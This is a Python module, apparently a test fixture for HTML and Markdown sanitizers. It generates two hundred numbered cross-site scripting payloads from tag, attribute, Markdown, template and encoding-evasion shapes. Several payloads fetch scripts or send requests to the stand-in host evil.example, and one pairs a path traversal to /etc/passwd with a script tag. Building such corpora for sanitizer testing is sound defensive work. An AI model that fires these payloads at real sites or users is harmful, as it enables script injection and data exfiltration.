"""Two hundred script injection payloads, each with its own number.

A payload that runs calls `hit(N)`; one that fetches requests `http://evil.example`.
"""

from __future__ import annotations

from itertools import islice

COUNT = 200
_ACTS = (
    "hit({n})", "window.hit&&hit({n})", "fetch('http://evil.example/{n}')", "top['hi'+'t']({n})",
    "new Image().src='http://evil.example/{n}'", "import('http://evil.example/{n}.js')", "alert({n})",
)  # fmt: skip
_SHAPES = (
    "<script>{act}</script>",
    "<ScRiPt >{act}</sCrIpT\t>",
    "<script src=http://evil.example/{n}.js></script>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "<img src=x onerror={act}>",
    '<img src="http://evil.example/{n}.png">',
    "<img/src/onerror={act}>",
    "<svg onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror={act}>",
    "<body onload={act}>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>x</details>",
    "<video><source onerror={act}></video>",
    "<iframe src=\"javascript:{act}\"></iframe>",
    '<iframe srcdoc="<script>parent.{act}</script>"></iframe>',
    "<object data=\"javascript:{act}\"></object>",
    "<embed src=http://evil.example/{n}.swf>",
    '<a href="javascript:{act}">click</a>',
    '<a href="jav&#x09;ascript:{act}">click</a>',
    "<form action=http://evil.example/{n}><input type=submit autofocus></form>",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/{n}">',
    '<link rel="stylesheet" href="http://evil.example/{n}.css">',
    "<style>@import 'http://evil.example/{n}.css';</style>",
    '<base href="http://evil.example/{n}/">',
    '<div style="background:url(http://evil.example/{n})">x</div>',
    '<p hx-get="http://evil.example/{n}" hx-trigger="load">x</p>',
    '<p hx-on::load="{act}" data-hx-on:click="{act}">x</p>',
    '<p data-src="http://evil.example/{n}" data-stream="http://evil.example/{n}">x</p>',
    '<button data-key="j" onclick="{act}">x</button>',
    '<template><script>{act}</script></template>',
    "<noscript><p title=\"</noscript><img src=x onerror={act}>\"></noscript>",
    "<!--><img src=x onerror={act}>-->",
    "<![CDATA[<script>{act}</script>]]>",
    "<?xml version='1.0'?><script>{act}</script>",
    '"><script>{act}</script>',
    "'><img src=x onerror={act}>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</script><script>{act}</script>",
    "</pre></code></details></article></main><script>{act}</script>",
    '" onmouseover="{act}" autofocus onfocus="{act}" x="',
    "' onfocus='{act}' tabindex=0 autofocus '",
    "[click](javascript:{act})",
    "[click](java\tscript:{act})",
    "[click](JaVaScRiPt&colon;{act})",
    "[click](data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=)",
    "[click](vbscript:{act})",
    "[x](<javascript:{act}>)",
    "![picture](http://evil.example/{n}.png)",
    "![picture](javascript:{act})",
    '![x"onerror="{act}](x)',
    "[![x](http://evil.example/{n}.png)](javascript:{act})",
    "<http://evil.example/{n}><javascript:{act}>",
    "[ref]: javascript:{act}\n[ref]",
    "[[javascript:{act}]]",
    "[[x|<img src=x onerror={act}>]]",
    "[[\"onmouseover=\"{act}]]",
    "[[../../etc/passwd#<script>{act}</script>]]",
    "```html\n<script>{act}</script>\n```",
    "```<script>{act}</script>\nx\n```",
    "`<img src=x onerror={act}>`",
    "| a |\n|---|\n| <script>{act}</script> |",
    "# <img src=x onerror={act}>",
    "- <svg/onload={act}>",
    "> <script>{act}</script>",
    "@@ -1 +1 @@\n-<script>{act}</script>\n+<img src=x onerror={act}>",
    "*** Begin Patch\n*** Update File: <script>{act}</script>\n+<img src=x onerror={act}>\n*** End Patch",
    "{{{{ {act} }}}} {{% raw %}}<script>{act}</script>{{% endraw %}}",
    "${{{act}}} #{{{act}}} <%= {act} %>",
    "\u202e<script>{act}</script>",
    "\ufeff<script>{act}</script>",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "<\u0000script>{act}</script>",
    "&lt;script&gt;{act}&lt;/script&gt;",
    "&#60;img src=x onerror={act}&#62;",
    "%3Cscript%3E{act}%3C/script%3E",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "<x onclick={act} contenteditable autofocus onfocus={act}>x",
    "<marquee onstart={act}>x</marquee>",
    "<isindex action=javascript:{act} type=image>",
    "<portal src=http://evil.example/{n}></portal>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{act}</script></svg>#x\">",
    "<svg><a xlink:href=\"javascript:{act}\"><text>x</text></a></svg>",
    "<math href=\"javascript:{act}\">x</math>",
    "<audio src=http://evil.example/{n}.mp3 autoplay onerror={act}>",
    "<select autofocus onfocus={act}><option>x</select>",
    "<dialog open onclose={act}><form method=dialog><button autofocus>x</button></form></dialog>",
    "event: part\ndata: {{\"id\":\"told\",\"html\":\"<img src=x onerror={act}>\"}}\n\n",
)  # fmt: skip


def payloads() -> list[str]:
    """Return all payloads."""
    made = (
        shape.format(act=act.format(n=n), n=n)
        for n, (act, shape) in enumerate((act, shape) for act in _ACTS for shape in _SHAPES)
    )
    return list(islice(made, COUNT))
